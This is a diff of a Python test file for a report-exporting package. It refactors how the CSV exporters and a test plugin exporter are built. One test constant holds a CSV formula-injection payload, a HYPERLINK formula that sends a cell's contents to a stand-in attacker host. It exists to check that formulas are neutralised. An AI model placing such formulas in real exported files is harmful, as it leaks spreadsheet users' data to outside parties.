@@ -10,14 +10,14 @@ import csv
 import io
 import os
 from pathlib import Path
-from typing import Any, ClassVar
+from typing import Any
 
 import pytest
 
 import govreport
 from govreport import cli
-from govreport.exporters.csv import CsvExporter, neutralised
-from govreport.model import Report
+from govreport.exporters.base import Exporter
+from govreport.exporters.csv import CSV, CSV_RAW, neutralised
 
 INJECTION = '一、=HYPERLINK("http://evil.example/?q="&A1,"点击")\n完成任务19项，同比增长5%。\n'
 
@@ -39,9 +39,9 @@ def test_numbers_and_text_stay_as_they_are(cell: str) -> None:
 def test_a_formula_in_a_heading_is_neutralised_in_csv_and_kept_in_csv_raw() -> None:
     report = govreport.parse(INJECTION)
     assert report.outline[0].title.startswith("=HYPERLINK")
-    (safe,) = {row["outline_titles"] for row in rows(CsvExporter().export(report))}
+    (safe,) = {row["outline_titles"] for row in rows(CSV.export(report))}
     assert safe.startswith("'=HYPERLINK(")
-    raw = CsvExporter(name="csv-raw", neutralise=False).export(report)
+    raw = CSV_RAW.export(report)
     assert {row["outline_titles"] for row in rows(raw)} == {safe[1:]}
 
 
@@ -86,21 +86,16 @@ def test_the_text_formats_write_surrogates_as_u_fffd() -> None:
 def test_a_plugin_exporter_that_writes_a_surrogate_is_refused_in_one_line(
     tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    class Careless:
-        name: ClassVar[str] = "careless"
-        suffix: ClassVar[str] = ".txt"
-        media_type: ClassVar[str] = "text/plain"
-        binary: ClassVar[bool] = False
-
-        def export(self, report: Report) -> str:
-            return "\ud800"
+    careless = Exporter(
+        name="careless", suffix=".txt", media_type="text/plain", render=lambda r: "\ud800"
+    )
 
     class Plugin:
         __name__ = "careless"
 
         @govreport.hookimpl
         def register_exporters(self, register: Any) -> None:
-            register(Careless())
+            register(careless)
 
     def make_host(strict: bool = True) -> Any:
         return govreport.PluginHost(plugins=[Plugin()], load_entrypoints=False)
